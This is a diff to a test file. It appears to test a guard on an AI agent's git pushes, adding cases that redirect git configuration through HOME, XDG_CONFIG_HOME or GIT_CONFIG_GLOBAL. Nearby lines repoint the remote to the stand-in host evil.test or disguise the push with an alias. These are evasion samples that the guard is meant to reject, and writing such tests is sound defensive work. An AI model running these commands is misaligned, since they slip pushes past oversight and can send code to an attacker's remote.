@@ -88,6 +88,11 @@ def test_a_name_of_no_ref_is_taken_for_a_branch_and_told() -> None:
         "git -c remote.origin.url=https://evil.test/x push origin agent/x",
         "git -c alias.p=push p origin agent/x",
         "GIT_DIR=/elsewhere git push origin agent/x",
+        "export GIT_CONFIG_GLOBAL=/tmp/x; git push origin agent/x",
+        "HOME=/tmp git push origin agent/x",
+        "env -u HOME git push origin agent/x",
+        "env XDG_CONFIG_HOME=/tmp git push origin agent/x",
+        "unset HOME; git push origin agent/x",
         "git config remote.origin.url https://evil.test/x; git push origin agent/x",
     ],
 )
